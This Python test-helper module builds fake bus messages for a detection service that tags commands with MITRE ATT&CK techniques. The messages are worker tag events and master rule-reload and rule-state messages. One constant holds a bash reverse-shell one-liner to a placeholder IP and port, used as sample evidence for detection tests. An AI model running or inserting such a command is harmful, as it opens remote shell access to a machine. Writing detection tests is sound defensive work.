"""Bus messages as the services publish them, for tests that play a worker or the master.

A worker's tag message is an ``EventTagged`` in the worker's CloudEvents envelope on
``ttp.tagged.<kind>``; the master's rule messages are ``RuleReloaded`` (a rule definition in
its normalised form, or a tombstone) and ``RuleStateChanged`` in the master's envelope on
TTP_RULES. Every builder returns the subject with the encoded bytes; each value a test
depends on is a parameter, the rest are plausible fixed values.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterable
from datetime import datetime
from typing import Any

from ttp_core.contract import subjects
from ttp_core.contract.payloads import (
    MASTER_SOURCE,
    EventTagged,
    RuleReloaded,
    RuleStateChanged,
    TagData,
    encode,
    envelope,
    worker_source,
)

__all__ = [
    "Emit",
    "rule_definition",
    "rule_reloaded",
    "rule_state",
    "tag_data",
    "tagged_message",
    "tagged_payload",
]

Emit = tuple[str, str | None, float]
"""One ``emits`` entry of a rule: (technique_id, sub_technique_id, confidence)."""

COMMAND_EVIDENCE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def tag_data(
    technique_id: str = "T1059",
    sub_technique_id: str | None = "T1059.004",
    *,
    rule_id: str = "linux-reverse-shell",
    rule_version: int = 1,
    confidence: float = 0.9,
    evidence: dict[str, Any] | None = None,
    attack_version: str = "18.1",
    mitre_url: str | None = None,
) -> TagData:
    """One tag of a worker's message; a fresh uuid each call, as a worker gives each tag."""
    return TagData(
        uuid=str(uuid.uuid4()),
        rule_id=rule_id,
        rule_version=rule_version,
        tactic="TA0002",
        technique_id=technique_id,
        sub_technique_id=sub_technique_id,
        confidence=confidence,
        evidence={"command_text": COMMAND_EVIDENCE} if evidence is None else evidence,
        attack_version=attack_version,
        mitre_url=mitre_url or f"https://attack.mitre.org/techniques/{technique_id}/",
    )


def tagged_payload(
    source_id: str,
    tags: Iterable[TagData],
    *,
    kind: str = "command",
    attacker_uuid: str | None = None,
    revision: int = 1,
    worker: str = "w1",
    time: datetime | None = None,
) -> bytes:
    """The bytes a worker publishes for one tagged event; ``kind`` may be one no subject
    could carry (a hostile message's)."""
    data = EventTagged(
        source_kind=kind,
        source_id=source_id,
        attacker_uuid=attacker_uuid,
        revision=revision,
        tags=list(tags),
    )
    return encode(envelope(data, source=worker_source(worker), subject=source_id, time=time))


def tagged_message(
    source_id: str, tags: Iterable[TagData], *, kind: str = "command", **fields: Any
) -> tuple[str, bytes]:
    """Subject (``ttp.tagged.<kind>``) and bytes of the message a worker publishes for one
    tagged event; ``fields`` as :func:`tagged_payload` takes them."""
    return subjects.tagged(kind), tagged_payload(source_id, tags, kind=kind, **fields)


def rule_definition(
    rule_id: str,
    *emits: Emit,
    name: str | None = None,
    rule_version: int = 1,
    match: dict[str, Any] | None = None,
) -> dict[str, Any]:
    """A rule in the master's normalised form, applying to commands."""
    return {
        "rule_id": rule_id,
        "rule_version": rule_version,
        "name": rule_id.lower() if name is None else name,
        "applies_to": ["command"],
        "match": match or {"field": "command_text", "contains": "bash"},
        "emits": [
            {"tactic": "TA0002", "technique_id": technique, "confidence": confidence}
            | ({"sub_technique_id": sub} if sub else {})
            for technique, sub, confidence in emits
        ],
    }


def rule_reloaded(
    rule_id: str,
    revision: int,
    rule: dict[str, Any] | None,
    *,
    deleted: bool = False,
    rule_version: int = 1,
    source_path: str | None = None,
    event_id: str | None = None,
) -> tuple[str, bytes]:
    """Subject and bytes of the master's ``ttp.rule.reloaded.<id>``: ``rule`` as the
    definition, or a tombstone (no version, hash nor definition) when ``deleted``."""
    data = RuleReloaded(
        rule_id=rule_id,
        revision=revision,
        rule_version=None if deleted else rule_version,
        content_sha256=None if deleted else "0" * 64,
        source_path=source_path or f"{rule_id}.yaml",
        deleted=deleted,
        rule=None if deleted else rule,
    )
    message = envelope(data, source=MASTER_SOURCE, subject=rule_id, event_id=event_id)
    return subjects.rule_reloaded(rule_id), encode(message)


def rule_state(
    rule_id: str, revision: int, state: str, *, event_id: str | None = None, **fields: Any
) -> tuple[str, bytes]:
    """Subject and bytes of the master's ``ttp.rule.state.<id>``; ``fields`` are the state
    message's other fields (reason, confidence_max, expires_at, set_by)."""
    data = RuleStateChanged.model_validate(
        {"rule_id": rule_id, "revision": revision, "state": state, **fields}
    )
    message = envelope(data, source=MASTER_SOURCE, subject=rule_id, event_id=event_id)
    return subjects.rule_state(rule_id), encode(message)
